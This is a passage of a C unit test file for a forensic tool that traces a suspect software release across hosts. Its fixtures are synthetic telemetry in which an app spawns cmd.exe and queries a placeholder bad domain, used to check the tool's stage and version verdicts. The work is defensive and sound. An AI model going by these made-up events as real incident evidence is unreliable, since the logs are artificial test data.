	assert_shown(&f, 0, "S3 S4");
	assert_int_equal(f.got.list[0].proofs[STAGE_S4].count, 1);
	assert_shown(&f, 1, "");
	end(&f);
}

static void an_alert_leads_to_the_program_that_did_it(void **state)
{
	static const struct stage_place_key shell = { 1, 2, 100 }, itself = { 1, 1, 0 };
	struct fixture f;

	(void)state;
	for (int i = 0; i < 2; i++) {
		start(&f, &release, "A");
		stage_wanted_alert(&f.known, i ? &itself : &shell);
		RUN_HOSTS(&f, HOST("A", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
				   "10 !process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe"));
		assert_shown(&f, 0, i ? "" : "S3 S7"); /* that it was started is no deed */
		end(&f);
	}
}

/* An alert names no version: what ran days before the version was anywhere is another one. */
static void before_it_was_anywhere_it_did_nothing(void **state)
{
	static const struct stage_place_key shell = { 1, 2, 100 };
	struct fixture f;

	(void)state;
	for (int i = 0; i < 2; i++) {
		struct told_host known = HOST("KNOWN", "5 file_create C:\\x\\other.exe#8 > C:\\x\\y.txt",
					      "300000 process_start explorer.exe#1 > {a}" APP "#2" OWN);

		start(&f, &release, "A");
		stage_wanted_alert(&f.known, &shell);
		if (i)
			RUN_HOSTS(&f, HOST("A", "50000 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
					   "50001 !process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe"), known);
		else
			RUN_HOSTS(&f, HOST("A", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
					   "10 !process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe"), known);
		assert_shown(&f, 0, i ? "S3 S7" : "");
		assert_int_equal(f.got.list[0].unclear.n, i ? 0 : 1);
		end(&f);
	}
}

static void a_contact_that_only_it_makes_tells_which_version(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), CALL("21", "a", GOOD)),
		  HOST("OLD", "10 process_start explorer.exe#1 > {a}" APP "#2" OLD, CALL("20", "a", GOOD)),
		  HOST("UNTOLD", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
		       "10 process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe", "11 dns_query {s}" COMMANDS "#3 > " BAD),
		  HOST("QUIET", "9 process_start C:\\Windows\\explorer.exe#1 > {a}" APP "#2",
		       "10 process_start {a}" APP "#2 > {s}" COMMANDS "#3 | command_line=cmd.exe", "11 dns_query {s}" COMMANDS "#3 > " GOOD));
	assert_shown(&f, 2, "S3 S4 S7");
	assert_int_equal(f.got.list[2].unclear.n, 0);
	assert_shown(&f, 3, "");
	assert_int_equal(f.got.list[3].unclear.n, 1);
	end(&f);
}

static void what_a_host_records_is_told_by_its_activities(void **state)
{
	struct fixture f;
	unsigned kinds = 0;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f, HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, CALL("20", "a", BAD), "900 logon - > x"));
	for (size_t i = 0; i < f.got.list[0].source_count; i++) {
		kinds |= 1u << f.got.list[0].sources[i].record;
		assert_int_equal(f.got.list[0].sources[i].completeness, COMPLETENESS_UNKNOWN);
		assert_int_equal(f.got.list[0].sources[i].last_ns, TOLD_SECONDS(900)); /* the file goes on */
	}
	assert_int_equal(kinds, 1u << RECORDS_RUNS | 1u << RECORDS_CONTACTS);
	end(&f);
}

static void a_mac_is_known_by_all_its_paths(void **state)
{
	static const struct stage_wanted w = { .kind = ORIGIN_RELEASE, .product = SLICE("App"), .version = SLICE("2.0"),
					       .os = SLICE("macos"), .path = SLICE("/Applications/App.app/app") };
	struct fixture f;

	(void)state;
	start(&f, &w, "Z");
	RUN_HOSTS(&f, HOST("A", "1 process_start - > /usr/libexec/xpcproxy#1", "5 package - > App | version=2.0 | action=installed",
			   "9 process_start - > /Applications/App.app/app#2"));
	assert_string_equal(f.got.list[0].os, "macos");
	assert_shown(&f, 0, "S2 S3");
	end(&f);
}

static void a_list_says_since_when_programs_and_modules_are_of_its_version(void **state)
{
	struct fixture f;

	(void)state;
	start(&f, &release, "A");
	RUN_HOSTS(&f,
		  HOST("A", "10 process_start explorer.exe#1 > {a}" APP "#2" OWN, "11 image_load {a}" APP "#2 > " LIB " | sha256=dd"),
		  HOST("LATER", "500 inventory - > App | version=2.0 | company=Maker", "900 process_start - > " APP,
		       "900 image_load " APP " > " LIB),
		  HOST("BEFORE", "5000 inventory - > App | version=2.0 | company=Maker", "900 process_start - > " APP,
		       "900 image_load " APP " > " LIB),
		  HOST("OTHER", "500 inventory - > App | version=1.0 | company=Maker", "900 process_start - > " APP,
		       "900 image_load " APP " > " LIB),
		  HOST("BOTH", "500 inventory - > App | version=2.0 | company=Maker", "800 inventory - > App | version=1.0 | company=Maker",
		       "900 process_start - > " APP),
		  HOST("STRANGER", "500 inventory - > App | version=2.0 | company=Maker", "900 process_start - > C:\\t\\host.exe",
		       "900 image_load C:\\t\\host.exe > " LIB),
		  HOST("ITS CONTENT", "500 inventory - > App | version=2.0 | company=Maker", "900 process_start - > C:\\t\\host.exe",
		       "900 image_load C:\\t\\host.exe > " LIB " | sha256=ee"),
		  HOST("FILE", "- file_present - > " APP));
	assert_shown(&f, 1, "S2 S3");
	assert_int_equal(f.got.list[1].proofs[STAGE_S3].n, 2);
	assert_false(f.got.list[1].installed); /* it may have been there before its entry was written */
	assert_shown(&f, 2, "S2");
	assert_int_equal(f.got.list[2].unclear.n, 1);
	assert_shown(&f, 3, "");
	assert_shown(&f, 4, "S2");
	assert_int_equal(f.got.list[4].unclear.n, 1);
	assert_shown(&f, 5, "S2 S3");
	assert_shown(&f, 6, "S2");
	assert_shown(&f, 7, "");
	assert_int_equal(f.got.list[7].lies.n, 1);
	end(&f);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_release_is_product_version_system_and_content),
		cmocka_unit_test(a_host_with_4688_alone_is_told_by_its_installer),
		cmocka_unit_test(offer_and_delivery_are_told_from_the_installation_back),
		cmocka_unit_test(an_address_of_two_versions_offers_neither),
		cmocka_unit_test(it_calls_whom_neither_others_nor_other_versions_call),
		cmocka_unit_test(without_another_version_nobody_knows_whom_it_calls),
		cmocka_unit_test(without_another_version_hosts_are_told_apart),
		cmocka_unit_test(an_alert_on_a_contact_stands_for_the_other_version),
		cmocka_unit_test(a_beacon_comes_three_times_and_not_at_once),
		cmocka_unit_test(what_it_writes_and_then_loads_is_a_second_stage),
		cmocka_unit_test(what_another_version_does_too_says_nothing),
		cmocka_unit_test(commands_count_by_what_they_are),
		cmocka_unit_test(memory_and_stores_of_others),
		cmocka_unit_test(a_block_is_one_of_its_files_and_of_its_time),
		cmocka_unit_test(removal_and_replacement_end_it),
		cmocka_unit_test(lives_of_one_name_are_apart),
		cmocka_unit_test(a_moment_that_it_wrote_down_is_kept),
		cmocka_unit_test(a_download_is_its_content_or_the_file_on_hosts_with_alerts),
		cmocka_unit_test(inventories_show_what_is_there),
		cmocka_unit_test(a_host_with_any_of_a_tie_is_told),
		cmocka_unit_test(a_language_package_is_its_folder_in_its_version),
		cmocka_unit_test(a_package_is_what_its_manager_runs_for_it),
		cmocka_unit_test(a_registry_package_runs_in_its_folder),
		cmocka_unit_test(a_registry_package_is_asked_for_by_name),
		cmocka_unit_test(what_an_agent_dropped_is_also_what_was_unpacked_from_it),
		cmocka_unit_test(an_updater_tells_which_version_came),
		cmocka_unit_test(of_whatever_version_says_nothing_of_others),
		cmocka_unit_test(a_later_version_may_keep_what_it_brought),
		cmocka_unit_test(an_alert_leads_to_the_program_that_did_it),
		cmocka_unit_test(before_it_was_anywhere_it_did_nothing),
		cmocka_unit_test(a_contact_that_only_it_makes_tells_which_version),
		cmocka_unit_test(what_a_host_records_is_told_by_its_activities),
		cmocka_unit_test(a_mac_is_known_by_all_its_paths),
		cmocka_unit_test(files_that_go_by_the_hundred),
		cmocka_unit_test(a_session_is_nothing_that_could_lie_on_a_host),
		cmocka_unit_test(a_list_says_since_when_programs_and_modules_are_of_its_version),
	};

	return RUN(tests);
}
